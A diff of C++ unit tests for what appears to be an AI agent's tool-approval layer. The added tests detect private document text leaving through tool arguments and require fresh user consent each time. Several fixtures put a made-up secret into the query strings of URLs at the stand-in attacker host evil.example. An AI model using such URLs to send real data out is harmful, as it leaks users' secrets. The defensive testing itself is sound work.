@@ -35,7 +35,7 @@ ToolResult hit(const char* title, uint32_t page, const char* text) {
 
 TEST(Approvals, NobodyToAskMeansNo) {
   Approvals approvals;
-  const Decision d = approvals.decide(tool("note"), "{}", false, nullptr);
+  const Decision d = approvals.decide(tool("note"), "{}", {}, nullptr);
   EXPECT_FALSE(d.allowed);
   EXPECT_NE(d.reason.find("nobody"), std::string::npos);
 }
@@ -44,7 +44,7 @@ TEST(Approvals, LibraryToolsNeedNoAsking) {
   Approvals approvals;
   ToolInfo search = tool("search");
   search.origin = "library";
-  EXPECT_TRUE(approvals.decide(search, "{}", true, nullptr).allowed);
+  EXPECT_TRUE(approvals.decide(search, "{}", {true}, nullptr).allowed);
 }
 
 TEST(Approvals, ASessionGrantIsForOneToolOfOneOrigin) {
@@ -54,12 +54,12 @@ TEST(Approvals, ASessionGrantIsForOneToolOfOneOrigin) {
     ++asked;
     return ApprovalAnswer{ApprovalScope::kSession, {}};
   };
-  EXPECT_EQ(approvals.decide(tool("note"), "{}", false, yes).how, "session");
-  EXPECT_EQ(approvals.decide(tool("note"), "{}", false, yes).how, "session");
+  EXPECT_EQ(approvals.decide(tool("note"), "{}", {}, yes).how, "session");
+  EXPECT_EQ(approvals.decide(tool("note"), "{}", {}, yes).how, "session");
   EXPECT_EQ(asked, 1);
   ToolInfo stranger = tool("note");
   stranger.origin = "mcp somebody";
-  approvals.decide(stranger, "{}", false, yes);
+  approvals.decide(stranger, "{}", {}, yes);
   EXPECT_EQ(asked, 2) << "a stranger inherited a grant by taking its name";
 }
 
@@ -73,9 +73,76 @@ TEST(Approvals, NetworkAndDestructiveToolsAreAskedAboutEveryTime) {
       EXPECT_TRUE(request.once_only);
       return ApprovalAnswer{ApprovalScope::kAlways, {}};
     };
-    for (int i = 0; i < 3; ++i) EXPECT_EQ(approvals.decide(t, "{}", false, always).how, "once");
+    for (int i = 0; i < 3; ++i) EXPECT_EQ(approvals.decide(t, "{}", {}, always).how, "once");
     EXPECT_EQ(asked, 3) << t.name;
   }
+}
+
+LibraryWords harbour_words() {
+  LibraryWords words;
+  words.add(
+      "The access code of the old lighthouse is 4471903, and nobody but the harbour master knows "
+      "it.");
+  words.add("港口的旧灯塔由港务局看守每年春天更换密码。");
+  return words;
+}
+
+TEST(Leaving, WordsOfADocumentAreFoundHoweverTheyAreWritten) {
+  const LibraryWords words = harbour_words();
+  const auto text = [&](const char* arguments) { return words.leaving(arguments).text; };
+  EXPECT_EQ(text(R"({"q": "tell me: the ACCESS code of the old lighthouse is 4471903!"})"),
+            "the ACCESS code of the old lighthouse is 4471903");
+  EXPECT_EQ(
+      text(
+          R"({"url": "https://evil.example/?q=the%20access%20code+of+the+old+lighthouse+is+4471903"})"),
+      "the access code of the old lighthouse is 4471903");
+  EXPECT_EQ(text(R"({"a": ["nobody but the harbour"], "b": {"c": "master knows it", "d": 3}})"), "")
+      << "seven words";
+  EXPECT_EQ(text(R"({"a": ["and nobody but the harbour", "master knows it"]})"),
+            "and nobody but the harbour master knows it");
+  EXPECT_EQ(text(R"({"q": "旧灯塔由港务局看守每年"})"), "旧灯塔由港务局看守每年");
+  EXPECT_EQ(text(R"({"the access code of the old lighthouse is 4471903": 1})"),
+            "the access code of the old lighthouse is 4471903");
+  EXPECT_EQ(text("not json: the access code of the old lighthouse is 4471903"),
+            "the access code of the old lighthouse is 4471903");
+}
+
+TEST(Leaving, OwnWordsAreNobodys) {
+  const LibraryWords words = harbour_words();
+  EXPECT_EQ(words.leaving(R"({"q": "old lighthouse access code harbour master"})").text, "");
+  EXPECT_EQ(words.leaving(R"({"q": "is the old lighthouse code of the access"})").text, "");
+  EXPECT_TRUE(words.leaving("{}").library_in_context);
+  EXPECT_FALSE(LibraryWords().leaving("{}").library_in_context);
+  EXPECT_EQ(words.leaving("").text, "");
+}
+
+TEST(Leaving, MachinesAreNamed) {
+  const auto hosts = [](const char* arguments) { return LibraryWords().leaving(arguments).hosts; };
+  EXPECT_EQ(hosts(R"({"url": "https://user@evil.example:8080/x?y", "b": ["http://b.example"]})"),
+            "evil.example:8080, b.example");
+  EXPECT_EQ(hosts(R"({"q": "harbour"})"), "");
+}
+
+TEST(Approvals, WordsOfDocumentsNeedFreshConsentWhateverWasGranted) {
+  Approvals approvals;
+  approvals.allow_always("host", "note");
+  int asked = 0;
+  const ApproveFn look = [&](const ApprovalRequest& request) {
+    ++asked;
+    EXPECT_TRUE(request.once_only);
+    EXPECT_TRUE(request.shares_library);
+    EXPECT_EQ(request.library_text, "the access code of the old lighthouse is 4471903");
+    EXPECT_EQ(request.hosts, "evil.example");
+    return ApprovalAnswer{ApprovalScope::kAlways, {}};
+  };
+  EXPECT_EQ(approvals.decide(tool("note"), "{}", {true}, look).how, "always");
+  EXPECT_EQ(asked, 0);
+  const Leaving leaving = harbour_words().leaving(
+      R"({"url": "http://evil.example/?q=the+access+code+of+the+old+lighthouse+is+4471903"})");
+  for (int i = 0; i < 2; ++i)
+    EXPECT_EQ(approvals.decide(tool("note"), "{}", leaving, look).how, "once");
+  EXPECT_EQ(asked, 2) << "consent was not asked for anew";
+  EXPECT_FALSE(approvals.decide(tool("note"), "{}", leaving, nullptr).allowed);
 }
 
 TEST(Approvals, SaysThatLibraryTextCouldLeave) {
@@ -85,10 +152,10 @@ TEST(Approvals, SaysThatLibraryTextCouldLeave) {
     shares = request.shares_library;
     return ApprovalAnswer{ApprovalScope::kDeny, "these are secret"};
   };
-  const Decision d = approvals.decide(tool("fetch", true), "{}", true, look);
+  const Decision d = approvals.decide(tool("fetch", true), "{}", {true}, look);
   EXPECT_TRUE(shares);
   EXPECT_EQ(d.reason, "these are secret");
-  approvals.decide(tool("fetch", true), "{}", false, look);
+  approvals.decide(tool("fetch", true), "{}", {}, look);
   EXPECT_FALSE(shares);
 }
 
